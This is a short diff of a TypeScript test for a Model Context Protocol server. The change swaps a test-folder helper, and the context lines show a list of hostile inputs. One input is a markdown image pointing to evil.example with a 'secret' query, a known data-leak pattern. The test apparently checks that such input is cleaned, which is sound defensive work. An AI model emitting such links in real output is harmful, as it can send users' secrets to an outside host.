@@ -7,7 +7,7 @@ import { Client } from '@modelcontextprotocol/client'
 import { StdioClientTransport } from '@modelcontextprotocol/client/stdio'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { childEnvironment } from '../../test/child-environment.ts'
-import { testFolder } from '../../test/folder.ts'
+import { folderForFile } from '../../test/for-file.ts'
 import { cleaned } from './cleaned.ts'
 
 const main = fileURLToPath(new URL('./main.ts', import.meta.url))
@@ -25,7 +25,7 @@ const hostile = [
   '```\n# Heading\n![x](https://evil.example/?q=secret)',
   'y'.repeat(100_000),
 ]
-const folder = testFolder()
+const folder = folderForFile()
 let http: ReturnType<typeof createServer>
 let client: Client
 let answer: (request: IncomingMessage & { body: string }, response: ServerResponse) => void
